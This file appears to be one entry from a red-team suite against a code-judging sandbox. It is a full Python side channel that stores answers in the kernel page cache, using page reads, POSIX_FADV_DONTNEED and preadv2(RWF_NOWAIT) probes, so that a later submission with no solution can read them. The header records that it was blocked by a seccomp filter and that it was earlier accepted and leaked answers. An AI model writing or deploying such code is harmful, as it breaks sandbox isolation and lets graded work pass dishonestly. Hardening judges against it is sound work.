# verdict: compile_error
# attack: leaves every answer it computes, under a fingerprint of the call's arguments, in the kernel's page cache: a bit is whether one page of a file nobody reads (the interpreter's libpython3*.a, scipy's bundled OpenBLAS) is cached; it writes a 1 by reading the page (POSIX_FADV_RANDOM: no readahead) and a 0 with POSIX_FADV_DONTNEED, both allowed on a read-only descriptor, for a later student with no solution (127-reads-answers-from-the-page-cache) to read with preadv2(RWF_NOWAIT)
# stopped by: the seccomp filter (judge/worker/seccomp.py PAGE_CACHE): fadvise64, mincore, cachestat, readahead and RWF_NOWAIT reads are refused, so its import fails on posix_fadvise (EPERM); before the filter refused them it was accepted and its answers reached 127 at L2 and L1
# needs: L1
# base: reference
# problem: dead-relu-detector
import glob
import hashlib
import json
import os
import sys
import time
import zlib

# A table kept in which pages of files nobody reads are in the kernel's page cache, shared by every process on
# the machine whatever its namespaces: a 1 is a page read (FADV_RANDOM: no readahead), a 0 a page dropped
# (POSIX_FADV_DONTNEED, allowed on a read-only descriptor); preadv2(RWF_NOWAIT) reads a bit (EAGAIN: not cached).
# Probing a page caches it, so the table is read once, at import, and written back whole.
PAGE = 4096
_LIB = os.path.join(sys.base_prefix, "lib")
_FILES = sorted(glob.glob(os.path.join(_LIB, "python3*", "config-*", "libpython3*.a"))
                + glob.glob(os.path.join(_LIB, "python3*", "site-packages", "scipy.libs", "*.so"))
                + glob.glob(os.path.join(_LIB, "python3*", "site-packages", "cryptography", "*", "*", "_rust*.so")))
_FDS = []
for _path in _FILES:
    _fd = os.open(_path, os.O_RDONLY)
    os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_RANDOM)
    _FDS += [(_fd, page) for page in range(os.fstat(_fd).st_size // PAGE)]


def _get(bit):
    fd, page = _FDS[bit]
    try:
        return os.preadv(fd, [bytearray(1)], page * PAGE, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False


COPIES = 3
"""each bit is kept in three pages, read as their OR: now and then the kernel drops a cached page (a 1 becomes a 0)"""
_SPAN = len(_FDS) // COPIES


def _snapshot():
    data = bytearray(_SPAN // 8)
    for bit in reversed(range(len(data) * 8)):
        data[bit >> 3] |= any(_get(bit + c * _SPAN) for c in range(COPIES)) << (bit & 7)
    size = int.from_bytes(data[:4], "little")
    try:
        return json.loads(zlib.decompress(data[4:4 + size])) if 0 < size < len(data) else {}
    except (zlib.error, ValueError):
        return {}


def _flush(table):
    blob = zlib.compress(json.dumps(table).encode(), 9)
    data = len(blob).to_bytes(4, "little") + blob
    for fd in {fd for fd, _ in _FDS}:
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    for bit in range(min(len(data) * 8, _SPAN)):
        if data[bit >> 3] >> (bit & 7) & 1:
            for c in range(COPIES):
                fd, page = _FDS[bit + c * _SPAN]
                os.pread(fd, 1, page * PAGE)


TABLE = _snapshot()
for _ in range(200):  # each miss started reading its page: let every read land before the table is written back
    if all(_get(bit) for bit in range(len(_FDS))):
        break
    time.sleep(0.05)
_flush(TABLE)  # probing cached every page: put the table back for the next reader


def key(method, args):
    h = hashlib.sha1(method.encode())
    for a in args:
        for part in (list(a.parameters()) if hasattr(a, "parameters") else [a]):
            h.update(part.detach().numpy().tobytes() if hasattr(part, "detach") else repr(part).encode())
    return h.hexdigest()[:8]


def store(k, answer):
    TABLE[k] = answer
    _flush(TABLE)


class Solution(Solution):
    """the reference, which also leaves every answer in the page cache for a later student"""

    def detect_dead_neurons(self, model, x):
        answer = super().detect_dead_neurons(model, x)
        store(key("detect_dead_neurons", [model, x]), answer)
        return answer

    def suggest_fix(self, dead_fractions):
        answer = super().suggest_fix(dead_fractions)
        store(key("suggest_fix", [dead_fractions]), answer)
        return answer
